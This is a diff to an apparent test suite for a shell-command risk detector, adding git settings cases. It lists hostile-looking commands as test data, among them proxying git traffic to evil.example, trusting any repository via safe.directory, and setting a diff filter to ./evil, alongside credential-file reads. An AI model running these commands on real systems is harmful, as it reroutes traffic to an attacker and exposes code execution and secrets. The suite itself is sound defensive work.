@@ -14,6 +14,10 @@ AGENTS.md``, ``markdownlint --fix`` and more formatters and fixers, ``aria2c -o`
 shell command of ``tmux pipe-pane``/``if-shell``, and a copy into the working folder
 spelled ``.`` (``cp /tmp/x/AGENTS.md .``, ``scp host:AGENTS.md .``).
 
+git settings: ``interactive.diffFilter`` is a command; ``safe.directory`` lets the
+commands other users' repositories configure run; ``http.proxy`` sends all of git's
+traffic to another server (as ``remote.NAME.proxy`` did already).
+
 More credential stores: registry tokens in ``~/.bunfig.toml`` and pip's ``pip.conf``,
 Ansible's vault password files, Chef's credentials, Scaleway's and Linode's CLIs.
 
@@ -174,6 +178,22 @@ STORES = [
     "cat ~/.config/scw/config.yaml",
     "cat ~/.linode-cli",
 ]
+# git settings that make git run what something else names, or send its traffic elsewhere
+GIT_SETTINGS = [
+    "git config interactive.diffFilter ./evil",
+    "git config --global safe.directory '*'",
+    "git config safe.directory /tmp/evil",
+    "git -c safe.directory='*' -C /tmp/evil status",
+    "git config http.proxy http://evil.example:8080",
+    "git config --global https.proxy http://evil.example:8080",
+    "git config http.https://github.com.proxy http://evil.example:8080",
+]
+GIT_PLAIN = [
+    "git config http.postBuffer 524288000",
+    "git config user.name x",
+    "git config --get http.proxy",
+    "git config --global --get safe.directory",
+]
 LIBRARIES = [
     "gawk -l ./evil 'BEGIN{}'",
     "gawk -lrwarray 'BEGIN{}'",
@@ -263,6 +283,16 @@ def test_a_tool_printing_a_credential_is_a_secret_read(line: str) -> None:
 @pytest.mark.parametrize("line", LIBRARIES)
 def test_a_library_loaded_into_awk_runs_code(line: str) -> None:
     assert "script-exec" in _judged(line), line
+
+
+@pytest.mark.parametrize("line", GIT_SETTINGS)
+def test_a_git_setting_that_lets_other_code_run_or_reroutes_git_is_seen(line: str) -> None:
+    assert {"persistence", "script-exec"} & set(_judged(line)), (line, _judged(line))
+
+
+@pytest.mark.parametrize("line", GIT_PLAIN)
+def test_other_git_settings_and_reads_are_not(line: str) -> None:
+    assert _judged(line) == [], (line, _judged(line))
 
 
 @pytest.mark.parametrize("line", PLAIN)
